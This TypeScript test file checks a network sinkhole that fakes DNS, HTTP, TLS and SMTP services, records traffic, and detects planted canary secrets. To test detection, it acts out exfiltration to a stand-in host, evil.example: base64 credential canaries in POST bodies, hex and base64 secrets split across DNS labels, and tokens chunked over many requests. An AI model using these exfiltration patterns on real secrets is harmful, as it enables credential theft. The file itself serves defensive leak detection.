import { createSocket } from 'node:dgram'
import { once } from 'node:events'
import http from 'node:http'
import http2 from 'node:http2'
import https from 'node:https'
import net from 'node:net'
import tls from 'node:tls'
import { brotliCompressSync, gzipSync } from 'node:zlib'
import { fieldProblem } from '@clawback/model'
import { decode, encode } from 'dns-packet'
import fc from 'fast-check'
import { afterEach, beforeEach, describe, expect, it } from 'vitest'
import { openTestSinkhole } from './fixture.js'
import type { TestSinkhole } from './fixture.js'

let hole: TestSinkhole
beforeEach(async () => {
  hole = await openTestSinkhole()
})
afterEach(async () => {
  await hole.sinkhole.close()
  const values = hole.seen.flatMap(({ fields }) => Object.entries(fields))
  const problems = values.map(([name, value]) =>
    value === undefined ? undefined : fieldProblem(name, value),
  )
  expect(problems.filter((problem) => problem !== undefined)).toEqual([])
})

const port = (): number => hole.sinkhole.tcpPort

async function readAll(stream: NodeJS.ReadableStream): Promise<string> {
  let text = ''
  for await (const chunk of stream) text += String(chunk)
  return text
}

async function request(
  module: typeof http | typeof https,
  options: https.RequestOptions,
  body?: string | Buffer,
): Promise<{ readonly status: number; readonly headers: http.IncomingHttpHeaders; readonly text: string }> {
  const sent = module.request({ host: '127.0.0.1', port: port(), agent: false, ...options })
  sent.end(body)
  const [response] = (await once(sent, 'response')) as [http.IncomingMessage]
  return { status: response.statusCode ?? 0, headers: response.headers, text: await readAll(response) }
}

async function ask(name: string, type: 'A' | 'AAAA' | 'TXT' | 'MX' = 'A'): Promise<readonly string[]> {
  const socket = createSocket('udp4')
  const message = encode({ type: 'query', id: 7, flags: 256, questions: [{ type, name }] })
  socket.send(message, hole.sinkhole.udpPort, '127.0.0.1')
  const [reply] = (await once(socket, 'message')) as [Buffer]
  socket.close()
  return (decode(reply).answers ?? []).map((answer) => JSON.stringify('data' in answer ? answer.data : ''))
}

describe('dns', () => {
  it('gives a name one address and tells what was asked', async () => {
    const first = await ask('evil.example')
    expect(await ask('EVIL.example')).toEqual(first)
    expect(await ask('other.example')).not.toEqual(first)
    expect(await ask('evil.example', 'AAAA')).toHaveLength(1)
    expect(await ask('evil.example', 'TXT')).not.toHaveLength(0)
    expect(await ask('evil.example', 'MX')).toHaveLength(1)
    const asked = await hole.sight('dns.query')
    expect(asked.fields).toMatchObject({
      'dns.question.name': 'evil.example',
      'dns.question.type': 'A',
      'dns.answers': [JSON.parse(first[0]!)],
    })
    expect(asked.flow?.transport).toBe('udp')
  })

  it('answers over tcp and over https', async () => {
    const message = encode({ type: 'query', id: 9, questions: [{ type: 'A', name: 'tcp.example' }] })
    const socket = net.connect(port(), '127.0.0.1')
    socket.write(Buffer.concat([Buffer.from([0, message.length]), message]))
    const [reply] = (await once(socket, 'data')) as [Buffer]
    expect(decode(reply.subarray(2)).answers).toHaveLength(1)
    socket.destroy()

    const sent = http.request({
      host: '127.0.0.1',
      port: port(),
      method: 'POST',
      path: '/dns-query',
      headers: { 'content-type': 'application/dns-message' },
    })
    sent.end(encode({ type: 'query', questions: [{ type: 'A', name: 'doh.example' }] }))
    const [response] = (await once(sent, 'response')) as [http.IncomingMessage]
    expect(response.headers['content-type']).toBe('application/dns-message')
    response.resume()
    expect((await hole.sight('dns.query', 1)).fields['dns.question.name']).toBe('doh.example')
  })
})

describe('http', () => {
  it('records a request with its body and answers by the shape of it', async () => {
    const { status, text } = await request(
      http,
      { method: 'POST', path: '/collect?x=1', headers: { host: 'evil.example', accept: 'application/json' } },
      '{"d":"hello"}',
    )
    expect(status).toBe(200)
    expect(JSON.parse(text)).toMatchObject({ success: true })
    const seen = await hole.sight('http.request')
    expect(seen.fields).toMatchObject({
      'http.request.method': 'POST',
      'url.full': 'http://evil.example/collect?x=1',
      'server.address': 'evil.example',
      'http.request.body.text': '{"d":"hello"}',
      'http.request.body.size': 13,
    })
    const digest = String(seen.fields['http.request.body.digest'])
    expect(hole.bodies.get(digest)?.toString()).toBe('{"d":"hello"}')
    const answered = await hole.sight('http.response')
    expect(answered.because).toBe(seen.ref)
    expect(answered.fields['http.response.status_code']).toBe(200)
  })

  it.each([
    ['gzip', gzipSync('the plain words')],
    ['br', brotliCompressSync('the plain words')],
  ])('decodes a %s body', async (encoding, body) => {
    await request(http, { method: 'PUT', path: '/', headers: { 'content-encoding': encoding } }, body)
    expect((await hole.sight('http.request')).fields['http.request.body.text']).toBe('the plain words')
  })

  it('survives a decompression bomb and keeps it as it came', async () => {
    const bomb = gzipSync(Buffer.alloc(32 << 20))
    await request(http, { method: 'POST', path: '/', headers: { 'content-encoding': 'gzip' } }, bomb)
    const { fields } = await hole.sight('http.request')
    expect(fields['http.request.body.size']).toBe(bomb.length)
  })

  it('takes several requests on one connection', async () => {
    const socket = net.connect(port(), '127.0.0.1')
    socket.write('GET /a HTTP/1.1\r\nHost: x.example\r\n\r\nGET /b HTTP/1.1\r\nHost: x.example\r\n\r\n')
    expect((await hole.sight('http.request', 1)).fields['url.path']).toBe('/b')
    socket.destroy()
  })

  it('keeps what was sent of a request that broke off', async () => {
    const socket = net.connect(port(), '127.0.0.1')
    socket.on('error', () => undefined)
    socket.end('POST /up HTTP/1.1\r\nHost: x.example\r\nContent-Length: 100\r\n\r\npartly')
    const { fields } = await hole.sight('http.request')
    expect(fields).toMatchObject({ 'http.request.body.text': 'partly', truncated: ['http.request.body'] })
  })

  it('records as raw bytes what starts like http and is none', async () => {
    const socket = net.connect(port(), '127.0.0.1')
    socket.write(`GET /x HTTP/1.1\r\nbroken header ${hole.canary('github_token@env:GITHUB_TOKEN')}\r\n\r\n`)
    expect((await hole.sight('net.send')).fields['network.protocol.name']).toBe('http')
    expect((await hole.sight('canary.leak')).fields['canary.source']).toBe('env:GITHUB_TOKEN')
    socket.destroy()
  })

  it('speaks http/2 with prior knowledge', async () => {
    const session = http2.connect(`http://127.0.0.1:${port()}`)
    const stream = session.request({ ':path': '/two', ':method': 'POST', accept: 'application/json' })
    stream.end('body of two')
    expect(JSON.parse(await readAll(stream))).toMatchObject({ status: 'ok' })
    session.close()
    const { fields } = await hole.sight('http.request')
    expect(fields).toMatchObject({ 'network.protocol.version': '2', 'http.request.body.text': 'body of two' })
  })

  it('redacts credentials in what it shows', async () => {
    const token = `ghp_${'a1B2c3D4e5'.repeat(4).slice(0, 36)}`
    await request(http, { path: `/?t=${token}`, headers: { authorization: `Bearer ${token}` } })
    expect(JSON.stringify((await hole.sight('http.request')).fields)).not.toContain(token)
  })

  it('hears inside a CONNECT tunnel', async () => {
    const sent = http.request({ host: '127.0.0.1', port: port(), method: 'CONNECT', path: 'far.example:443' })
    sent.end()
    const [, socket] = (await once(sent, 'connect')) as [http.IncomingMessage, net.Socket]
    const inner = tls.connect({ socket, servername: 'far.example', ca: hole.caPem })
    await once(inner, 'secureConnect')
    inner.write('GET /deep HTTP/1.1\r\nHost: far.example\r\n\r\n')
    expect((await hole.sight('http.request', 1)).fields['url.full']).toBe('https://far.example/deep')
    inner.destroy()
  })

  it('records websocket messages', async () => {
    const sent = http.request({
      host: '127.0.0.1',
      port: port(),
      path: '/ws',
      headers: {
        connection: 'Upgrade',
        upgrade: 'websocket',
        'sec-websocket-key': 'dGhlIHNhbXBsZSBub25jZQ==',
      },
    })
    sent.end()
    const [response, socket] = (await once(sent, 'upgrade')) as [http.IncomingMessage, net.Socket]
    expect(response.headers['sec-websocket-accept']).toBe('s3pPLMBiTxaQ9kYGzzhZRbK+xOo=')
    const text = Buffer.from('hello over ws')
    const masked = text.map((byte, i) => byte ^ [1, 2, 3, 4][i & 3]!)
    socket.write(Buffer.concat([Buffer.from([0x81, 0x80 | text.length, 1, 2, 3, 4]), masked]))
    const { fields } = await hole.sight('net.send')
    expect(fields).toMatchObject({
      'network.payload.text': 'hello over ws',
      'network.protocol.name': 'websocket',
    })
    socket.destroy()
  })
})

describe('tls', () => {
  it('shows the plaintext to who trusts the authority of the run', async () => {
    const { text } = await request(
      https,
      { path: '/x', servername: 'evil.example', ca: hole.caPem, headers: { host: 'evil.example' } },
      '',
    )
    expect(text).not.toBe('')
    const shake = await hole.sight('tls.handshake')
    expect(shake.fields).toMatchObject({ 'tls.client.server_name': 'evil.example', 'tls.established': true })
    expect(shake.fields['tls.error']).toBeUndefined()
    const seen = await hole.sight('http.request')
    expect(seen.fields['url.full']).toBe('https://evil.example/x')
    expect(seen.because).toBe(shake.ref)
  })

  it('names why a pinned client went away', async () => {
    const socket = tls.connect({ host: '127.0.0.1', port: port(), servername: 'pinned.example', ca: [] })
    await once(socket, 'error')
    const { fields } = await hole.sight('tls.handshake')
    expect(fields['tls.client.server_name']).toBe('pinned.example')
    expect(fields['tls.error']).toMatch(/unknown_ca|closed/)
  })

  it('offers http/2', async () => {
    const session = http2.connect(`https://127.0.0.1:${port()}`, { ca: hole.caPem, servername: 'h2.example' })
    const stream = session.request({ ':path': '/h2', ':authority': 'h2.example' })
    stream.end()
    await readAll(stream)
    session.close()
    expect((await hole.sight('http.request')).fields['url.full']).toBe('https://h2.example/h2')
  })

  it('has a certificate for an address', async () => {
    await hole.sinkhole.close()
    hole = await openTestSinkhole({ peer: { address: '93.184.216.34', port: 443 } })
    const socket = tls.connect({
      host: '127.0.0.1',
      port: port(),
      ca: hole.caPem,
      checkServerIdentity: () => undefined,
    })
    await once(socket, 'secureConnect')
    expect(socket.getPeerCertificate().subjectaltname).toBe('IP Address:93.184.216.34')
    socket.destroy()
  })
})

describe('raw', () => {
  it('records bytes of an unknown protocol when they pause', async () => {
    const socket = net.connect(port(), '127.0.0.1')
    socket.write(Buffer.from('\x00\x01beacon 42\n', 'latin1'))
    const { fields } = await hole.sight('net.send')
    expect(fields).toMatchObject({ 'network.transport': 'tcp', 'network.io.bytes': 12 })
    expect(fields['network.payload.text']).toContain('beacon 42')
    socket.destroy()
  })

  it('records datagrams', async () => {
    const socket = createSocket('udp4')
    socket.send('tick tock', hole.sinkhole.udpPort, '127.0.0.1')
    const { fields } = await hole.sight('net.send')
    expect(fields).toMatchObject({ 'network.transport': 'udp', 'network.payload.text': 'tick tock' })
    socket.close()
  })

  it('plays a mail server where one is expected', async () => {
    await hole.sinkhole.close()
    hole = await openTestSinkhole({ peer: { address: '203.57.1.1', port: 25 } })
    const socket = net.connect(port(), '127.0.0.1')
    socket.setEncoding('utf8')
    const say = async (line: string): Promise<string> => {
      socket.write(`${line}\r\n`)
      return String((await once(socket, 'data'))[0])
    }
    expect(String((await once(socket, 'data'))[0])).toMatch(/^220 /)
    expect(await say('EHLO me')).toMatch(/250 AUTH/)
    expect(await say('MAIL FROM:<a@b>')).toMatch(/^250/)
    expect(await say('RCPT TO:<c@d>')).toMatch(/^250/)
    expect(await say('DATA')).toMatch(/^354/)
    expect(await say('Subject: x\r\n\r\nstolen\r\n.')).toMatch(/^250/)
    expect(await say('QUIT')).toMatch(/^221/)
    const sent = await hole.sight('net.send')
    expect(sent.fields['network.protocol.name']).toBe('smtp')
  })
})

describe('leaks', () => {
  it('finds a planted value in a body and says which request carried it', async () => {
    const body = Buffer.from(hole.canary('aws_secret_key@~/.aws/credentials')).toString('base64')
    await request(
      http,
      { method: 'POST', path: '/c', headers: { host: 'evil.example' } },
      JSON.stringify({ d: body }),
    )
    const leak = await hole.sight('canary.leak')
    expect(leak.fields).toMatchObject({
      'canary.source': '~/.aws/credentials',
      'canary.channel': 'http',
      'canary.partial': false,
      'server.address': 'evil.example',
    })
    expect(leak.fields['canary.encoding']).toContain('base64')
    expect(leak.because).toBe((await hole.sight('http.request')).ref)
  })

  it('joins what was split over dns labels', async () => {
    const hex = Buffer.from(hole.canary('password@~/.netrc')).toString('hex')
    for (let at = 0; at < hex.length; at += 8) await ask(`${hex.slice(at, at + 8)}.t.evil.example`)
    expect(hole.seen.filter(({ kind }) => kind === 'canary.leak')).toHaveLength(0)
    await hole.sinkhole.settle()
    const leak = await hole.sight('canary.leak')
    expect(leak.fields).toMatchObject({
      'canary.source': '~/.netrc',
      'canary.channel': 'dns',
      'canary.encoding': 'hex',
    })
    expect(leak.because).toBe((await hole.sight('dns.query', Math.ceil(hex.length / 8) - 1)).ref)
  })

  it('joins what stands in one place of request after request', async () => {
    const value = hole.canary('stripe_key@env:STRIPE_SECRET_KEY')
    const other = hole.canary('github_token@env:GITHUB_TOKEN')
    const headers = { host: 'evil.example', 'content-type': 'application/json' }
    for (let at = 0; at < other.length; at += 7) {
      const piece = value.slice(at, at + 7)
      await request(http, { path: `/p?n=${at}&d=${piece}&z=1`, headers: { host: 'evil.example' } })
      const d = Buffer.from(other.slice(at, at + 7)).toString('base64')
      await request(http, { method: 'POST', path: '/q', headers }, JSON.stringify({ n: at, d, z: 1 }))
    }
    await hole.sinkhole.settle()
    const leaks = hole.seen.filter(({ kind }) => kind === 'canary.leak').map(({ fields }) => fields)
    expect(leaks).toContainEqual(
      expect.objectContaining({ 'canary.source': 'env:STRIPE_SECRET_KEY', 'canary.partial': false }),
    )
    expect(leaks).toContainEqual(
      expect.objectContaining({ 'canary.source': 'env:GITHUB_TOKEN', 'canary.encoding': 'base64' }),
    )
  })

  it('tells base64 in dns names by its case', async () => {
    const text = Buffer.from(hole.canary('password@~/.netrc')).toString('base64url')
    for (let at = 0; at < text.length; at += 8) await ask(`${text.slice(at, at + 8)}.t.Evil.example`)
    await hole.sinkhole.settle()
    expect((await hole.sight('canary.leak')).fields).toMatchObject({
      'canary.source': '~/.netrc',
      'canary.encoding': 'base64',
      'server.address': 'evil.example',
    })
  })

  it('joins what was split over requests', async () => {
    const value = hole.canary('stripe_key@env:STRIPE_SECRET_KEY')
    for (let at = 0; at < value.length; at += 8)
      await request(
        http,
        { method: 'POST', path: '/p', headers: { host: 'evil.example' } },
        value.slice(at, at + 8),
      )
    await hole.sinkhole.settle()
    expect((await hole.sight('canary.leak')).fields['canary.source']).toBe('env:STRIPE_SECRET_KEY')
  })
})

describe('a run', () => {
  it('ends with its connections and names', async () => {
    const before = await ask('evil.example')
    const socket = net.connect(port(), '127.0.0.1')
    await once(socket, 'connect')
    socket.write('half a')
    socket.on('error', () => undefined)
    const closed = new Promise((resolve) => socket.once('close', resolve))
    await hole.sinkhole.settle()
    const count = hole.seen.length
    await hole.sinkhole.reset({
      run: 'next',
      ca: { pem: '', leaf: () => Promise.reject(new Error()) },
      canaries: [],
      answers: {},
    })
    await closed
    expect(hole.seen.length).toBe(count)
    expect(await ask('evil.example')).toEqual(before)
    expect((await request(http, { path: '/' })).status).toBe(404)
  })

  it('says once that a limit is reached and goes on', async () => {
    await hole.sinkhole.close()
    hole = await openTestSinkhole({ caps: { requests: 2 } })
    const statuses = []
    for (let i = 0; i < 5; i++) statuses.push((await request(http, { path: '/' })).status)
    expect(statuses).toEqual([200, 200, 503, 503, 503])
    expect(
      hole.seen.filter(({ kind }) => kind === 'resource.limit').map(({ fields }) => fields['limit.name']),
    ).toEqual(['sinkhole.requests'])
    expect(hole.seen.filter(({ kind }) => kind === 'http.request')).toHaveLength(2)
  })
})

describe('hostile bytes', () => {
  it('end in records, and the next one is served', async () => {
    const starts = [
      '',
      'GET / HTTP/1.1\r\n',
      'PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n',
      '\x16\x03\x01\x00\x20\x01',
      '\x00\x20',
    ]
    await fc.assert(
      fc.asyncProperty(fc.constantFrom(...starts), fc.uint8Array({ maxLength: 400 }), async (start, rest) => {
        const socket = net.connect(port(), '127.0.0.1')
        socket.on('error', () => undefined)
        const closed = new Promise((resolve) => socket.once('close', resolve))
        socket.resume()
        socket.end(Buffer.concat([Buffer.from(start, 'latin1'), rest]))
        await closed
      }),
      { numRuns: 60 },
    )
    const datagram = createSocket('udp4')
    for (const size of [0, 1, 12, 17, 600])
      datagram.send(Buffer.alloc(size, 0xc0), hole.sinkhole.udpPort, '127.0.0.1')
    expect((await request(http, { path: '/' })).status).toBe(200)
    datagram.close()
  }, 60_000)
})
